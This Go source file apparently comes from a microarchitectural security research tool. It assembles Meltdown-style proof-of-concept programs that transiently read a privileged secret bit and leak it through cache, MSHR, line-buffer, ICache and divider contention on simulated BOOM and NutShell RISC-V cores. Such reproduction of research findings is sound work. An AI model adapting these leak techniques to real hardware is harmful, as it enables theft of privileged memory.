package attack

import (
	"sonar/internal/fuzz"
	"sonar/internal/isa"
	"sonar/internal/uarch"
)

// setStride is the address distance between two lines mapping to the same
// L1 set (64 sets x 64-byte lines).
const setStride = 64 * 64

// addrInto emits dst = base + off for arbitrary 32-bit offsets (ld/sd
// immediates only span 12 bits).
func addrInto(dst, base uint8, off int64) []isa.Instr {
	hi := (off + 0x800) >> 12 // round so the low part stays in [-2048,2047]
	lo := off - hi<<12
	return []isa.Instr{
		{Op: isa.LUI, Rd: dst, Imm: hi},
		isa.I(isa.ADDI, dst, dst, lo),
		isa.R(isa.ADD, dst, dst, base),
	}
}

// coldLoad emits a load from DataBase+off through regTmpA.
func coldLoad(rd uint8, off int64) []isa.Instr {
	code := addrInto(regTmpA, regData, off)
	return append(code, isa.Load(isa.LD, rd, regTmpA, 0))
}

// coldStore emits a store to DataBase+off (dirtying the line).
func coldStore(off int64) []isa.Instr {
	code := addrInto(regTmpA, regData, off)
	return append(code, isa.Store(isa.SD, regTmpA, regTmpA, 0))
}

// divTimedLoad emits a load from DataBase+off whose issue time is set by an
// iterative divide of tunable latency (dividend = 3<<knob, so the latency
// tracks the knob cycle-for-cycle). Unlike a dependency chain, it keeps the
// program length constant, so the victim's timing moves independently of
// instruction-fetch alignment.
func divTimedLoad(rd uint8, off int64, knob int) []isa.Instr {
	if knob > 61 {
		knob = 61
	}
	code := addrInto(regAddr, regData, off)
	return append(code,
		isa.I(isa.ADDI, regTmpA, 0, 3),
		isa.I(isa.ADDI, regShift, 0, int64(knob)),
		isa.R(isa.SLL, regTmpA, regTmpA, regShift),
		isa.R(isa.DIV, regTmpA, regTmpA, regTmpA), // latency ~= 10+knob; result 1
		isa.I(isa.ADDI, regTmpA, regTmpA, -1),     // 0, div-timed
		isa.R(isa.ADD, regAddr, regAddr, regTmpA),
		isa.Load(isa.LD, rd, regAddr, 0),
	)
}

// timedLoad emits a load from DataBase+off whose issue time tracks the
// head dependency chain (xor x9,x9 resolves to zero when the chain does).
func timedLoad(rd uint8, off int64) []isa.Instr {
	code := addrInto(regAddr, regData, off)
	code = append(code,
		isa.R(isa.XOR, regTmpA, 9, 9),
		isa.R(isa.ADD, regAddr, regAddr, regTmpA),
		isa.Load(isa.LD, rd, regAddr, 0),
	)
	return code
}

// bitLoad emits a transient load whose line depends on the secret bit:
// address = DataBase + off + bit<<shift.
func bitLoad(off int64, shift int64) []isa.Instr {
	code := addrInto(regTrans, regData, off)
	return append(code,
		isa.I(isa.ADDI, regShift, 0, shift),
		isa.R(isa.SLL, regTmpA, regSecret, regShift),
		isa.R(isa.ADD, regTrans, regTrans, regTmpA),
		isa.Load(isa.LD, regTrans, regTrans, 0),
	)
}

// template describes one attack program shape; build assembles it.
type template struct {
	prime    []isa.Instr
	chainLen int
	// chainMid is inserted in the middle of the dependency chain (used to
	// start a refill whose window the chain-timed line5 lands in).
	chainMid []isa.Instr
	line5    []isa.Instr
	// line5Div, when non-nil, builds line5 as a div-timed victim using the
	// scanned knob for its latency (the head chain stays at chainLen, so
	// program length and fetch alignment are knob-independent).
	line5Div func(knob int) []isa.Instr
	// contender is emitted after the fault load and bit extraction; the
	// secret bit sits in regSecret.
	contender []isa.Instr
	// branchIsland emits a transient `bne regSecret, x0, island` whose
	// target is a cold code line far past the program (ICache-read
	// contenders, S1/S2/S14).
	branchIsland bool
	// extender emits a chain-timed cold load after line5: an older slow
	// instruction that keeps the faulting access away from the commit
	// head, holding the transient window open (Listing 1's computation
	// block serves the same purpose in the paper).
	extender bool
	// contenderDelay inserts a short transient dependency chain between
	// the bit extraction and the contender, shifting the contender's
	// request later into the victim's window.
	contenderDelay int
	// delayIsKnob routes the tuner's scanned length into contenderDelay
	// instead of the head chain — used by templates without a chain-timed
	// victim, where the contender's arrival is the only alignment degree
	// of freedom.
	delayIsKnob bool
}

// islandPadding keeps the branch island beyond the frontend's fetch-ahead
// reach so its ICache line stays cold until the transient branch redirects
// there.
const islandPadding = 320

func build(t template, bitOff, jitter, chainLen int) *isa.Program {
	delay := t.contenderDelay
	knob := chainLen
	if t.delayIsKnob && chainLen > 0 {
		delay = chainLen / 2
		chainLen = t.chainLen
	}
	if t.line5Div != nil {
		chainLen = t.chainLen // the knob drives line5's latency instead
	}
	if chainLen <= 0 {
		chainLen = t.chainLen
	}
	code := []isa.Instr{
		{Op: isa.LUI, Rd: regData, Imm: int64(fuzz.DataBase >> 12)},
		{Op: isa.LUI, Rd: regPriv, Imm: int64(fuzz.PrivBase >> 12)},
	}
	code = append(code, t.prime...)
	for j := 0; j < jitter; j++ {
		code = append(code, isa.NOP())
	}
	code = append(code, isa.Instr{Op: isa.RDCYCLE, Rd: regT0})
	code = append(code, isa.I(isa.ADDI, 9, 0, 1))
	half := chainLen / 2
	code = isa.AppendDepChain(code, 9, half)
	code = append(code, t.chainMid...)
	code = isa.AppendDepChain(code, 9, chainLen-half)
	code = append(code, t.line5...)
	if t.line5Div != nil {
		code = append(code, t.line5Div(knob)...)
	}
	if t.extender {
		code = append(code, timedLoad(regPrime, 0xA000)...)
	}
	// Listing 1 line 6: the privileged access plus transient bit extract.
	dword := int64(bitOff/64) * 8
	sh := int64(bitOff % 64)
	code = append(code,
		isa.Load(isa.LD, regSecret, regPriv, dword),
		isa.I(isa.ADDI, regShift, 0, sh),
		isa.R(isa.SRL, regSecret, regSecret, regShift),
		isa.I(isa.ANDI, regSecret, regSecret, 1),
	)
	for d := 0; d < delay; d++ {
		code = append(code, isa.I(isa.ADDI, regSecret, regSecret, 0))
	}
	branchPos := -1
	if t.branchIsland {
		branchPos = len(code)
		code = append(code, isa.Branch(isa.BNE, regSecret, 0, 0)) // patched below
	}
	code = append(code, t.contender...)
	code = append(code, isa.Instr{Op: isa.ECALL})
	if t.branchIsland {
		for len(code)%16 != 0 || len(code) < branchPos+islandPadding {
			code = append(code, isa.NOP())
		}
		island := len(code)
		code = append(code, isa.NOP(), isa.NOP(), isa.NOP(), isa.Instr{Op: isa.ECALL})
		code[branchPos].Imm = int64(4 * (island - branchPos))
	}
	return isa.NewProgram(fuzz.CodeBase, code...)
}

// poc wraps a template into a PoC.
func poc(id, desc, dut string, newSoC func() *uarch.SoC, t template) PoC {
	return PoC{
		ID: id, Description: desc, DUT: dut, NewSoC: newSoC,
		Template: func(bitOff, jitter, chainLen int) *isa.Program {
			return build(t, bitOff, jitter, chainLen)
		},
	}
}

// BoomPoCs returns the Meltdown-style PoCs for the newly discovered BOOM
// side channels (paper §8.5: S1-S7, S11, S12).
func BoomPoCs(newSoC func() *uarch.SoC) []PoC {
	var pocs []PoC

	// S1: transient ICache read (branch to a cold code line) blocks the
	// older DCache read on the TileLink D-Channel.
	pocs = append(pocs, poc("S1",
		"younger ICache read blocks older DCache read/writeback (TileLink D-Channel)",
		"boom", newSoC, template{
			chainLen:       2,
			line5Div:       func(knob int) []isa.Instr { return divTimedLoad(regLine5, 0x7000, knob) },
			branchIsland:   true,
			contenderDelay: 3,
		}))

	// S2: transient ICache read blocks the handler's ICache read.
	pocs = append(pocs, poc("S2",
		"younger ICache read blocks older ICache read/writeback (TileLink D-Channel)",
		"boom", newSoC, template{
			chainLen:     6,
			branchIsland: true,
			extender:     true,
			delayIsKnob:  true,
		}))

	// S3: transient DCache read blocks the handler's ICache read.
	pocs = append(pocs, poc("S3",
		"younger DCache read blocks older ICache read/writeback (TileLink D-Channel)",
		"boom", newSoC, template{
			prime:     coldLoad(regPrime, 0x5000), // bit=0 target, primed
			chainLen:  6,
			contender: bitLoad(0x5000, 12), // bit=1: +4096, cold
			extender:  true,
		}))

	// S4: transient DCache read blocks the older DCache read.
	pocs = append(pocs, poc("S4",
		"younger DCache read blocks older DCache read/writeback (TileLink D-Channel)",
		"boom", newSoC, template{
			prime:     coldLoad(regPrime, 0x5000),
			chainLen:  22,
			line5:     timedLoad(regLine5, 0x7000),
			contender: bitLoad(0x5000, 12),
		}))

	// S5: MSHR false sharing path blocking — the transient miss occupies
	// an MSHR for the same set index with a different tag, blocking the
	// older miss even though MSHRs are free.
	// line5 targets offset 0x2040 (set 1, cold). The contender computes
	// base + bit*(setStride+64): bit=0 -> 0x2000 (set 0, primed, hit);
	// bit=1 -> 0x2040+setStride (set 1, different tag -> false sharing).
	s5contender := addrInto(regTrans, regData, 0x2000)
	s5contender = append(s5contender,
		isa.I(isa.ADDI, regShift, 0, 12),
		isa.R(isa.SLL, regTmpA, regSecret, regShift), // bit*setStride
		isa.R(isa.ADD, regTrans, regTrans, regTmpA),
		isa.I(isa.ADDI, regShift, 0, 6),
		isa.R(isa.SLL, regTmpA, regSecret, regShift), // bit*64
		isa.R(isa.ADD, regTrans, regTrans, regTmpA),
		isa.Load(isa.LD, regTrans, regTrans, 0),
	)
	pocs = append(pocs, poc("S5",
		"MSHR false sharing: same set index, different tag blocks older miss",
		"boom", newSoC, template{
			prime:     coldLoad(regPrime, 0x2000),
			chainLen:  24,
			line5:     timedLoad(regLine5, 0x2040),
			contender: s5contender,
		}))

	// S6: read line buffer — the chain-timed older load reads in-flight
	// refill data through the single-ported read line buffer while the
	// transient refill writes it.
	pocs = append(pocs, poc("S6",
		"simultaneous read line buffer access delays the older load",
		"boom", newSoC, template{
			prime:     coldLoad(regPrime, 0x8000),
			chainLen:  26,
			chainMid:  coldLoad(regPrime, 0x6000),  // refill in flight
			line5:     timedLoad(regLine5, 0x6000), // hit-under-fill
			contender: bitLoad(0x8000, 12),         // bit=1: 0x9000, cold
			extender:  true,
		}))

	// S7: write line buffer — both the older and the transient miss evict
	// dirty lines, contending for the single-ported write line buffer and
	// the writeback path.
	pocs = append(pocs, poc("S7",
		"simultaneous write line buffer access delays the older store path",
		"boom", newSoC, template{
			prime:    dirtySet(0x1000, 8, 0x3000, 8),
			chainLen: 2,
			line5Div: func(knob int) []isa.Instr {
				return divTimedLoad(regLine5, 0x1000+8*setStride, knob)
			},
			contender: bitLoad(0x3000+7*setStride, 12), // bit=1: tag 8 of set B
			extender:  true,
		}))

	// S11: the transient load warms the very line the older load needs;
	// under bit=1 the older load hits (faster) — inverted polarity.
	pocs = append(pocs, poc("S11",
		"younger same-line access makes the older load hit (single-thread Flush+Reload analogue)",
		"boom", newSoC, template{
			chainLen:  26,
			line5:     timedLoad(regLine5, 0x4000+4096),
			contender: bitLoad(0x4000, 12), // bit=1 -> 0x4000+4096: line5's line
		}))

	// S12: the transient load evicts the line the older load needs.
	pocs = append(pocs, poc("S12",
		"younger load evicts the older load's line (single-thread Prime+Probe analogue)",
		"boom", newSoC, template{
			prime:     primeSet(0x1000, 8),
			chainLen:  30,
			line5:     timedLoad(regLine5, 0x1000),     // W: primed first, LRU
			contender: bitLoad(0x1000+7*setStride, 12), // bit=1: tag 8 evicts W
		}))
	return pocs
}

// NutshellPoCs returns the PoCs for the NutShell side channels. NutShell's
// early exception detection flushes the pipeline before the transient
// contenders issue, so these achieve near-zero accuracy (paper §8.5).
func NutshellPoCs(newSoC func() *uarch.SoC) []PoC {
	return []PoC{
		poc("S13",
			"non-pipelined MDU shared by mul/div: younger mul blocks older div",
			"nutshell", newSoC, template{
				chainLen: 18,
				line5: []isa.Instr{
					isa.R(isa.XOR, regTmpA, 9, 9),
					isa.I(isa.ADDI, regAddr, 0, 255),
					isa.R(isa.ADD, regTmpA, regTmpA, regAddr),
					isa.R(isa.DIV, regLine5, regTmpA, regAddr),
				},
				contender: []isa.Instr{
					isa.I(isa.ADDI, regShift, 0, 58),
					isa.R(isa.SLL, regTrans, regSecret, regShift),
					isa.R(isa.MUL, regTrans, regTrans, regTrans),
					isa.R(isa.DIV, regTrans, regTrans, regAddr),
				},
			}),
		poc("S14",
			"L1 ICache shared read/write port: refill write delays fetch",
			"nutshell", newSoC, template{
				chainLen:     10,
				branchIsland: true,
				delayIsKnob:  true,
			}),
	}
}

// primeSet loads `ways` lines of one set (offsets base + k*setStride).
func primeSet(base int64, ways int) []isa.Instr {
	var code []isa.Instr
	for k := 0; k < ways; k++ {
		code = append(code, coldLoad(regPrime, base+int64(k)*setStride)...)
	}
	return code
}

// dirtySet dirties `waysA` lines of set A and `waysB` lines of set B.
func dirtySet(baseA int64, waysA int, baseB int64, waysB int) []isa.Instr {
	var code []isa.Instr
	for k := 0; k < waysA; k++ {
		code = append(code, coldStore(baseA+int64(k)*setStride)...)
	}
	for k := 0; k < waysB; k++ {
		code = append(code, coldStore(baseB+int64(k)*setStride)...)
	}
	return code
}

// AllPoCs returns every PoC with its default DUT constructor.
func AllPoCs() []PoC {
	boomLite := func() *uarch.SoC { return uarch.NewSoC(uarch.BoomConfig(), 1, nil, nil) }
	nutLite := func() *uarch.SoC { return uarch.NewSoC(uarch.NutshellConfig(), 1, nil, nil) }
	return append(BoomPoCs(boomLite), NutshellPoCs(nutLite)...)
}
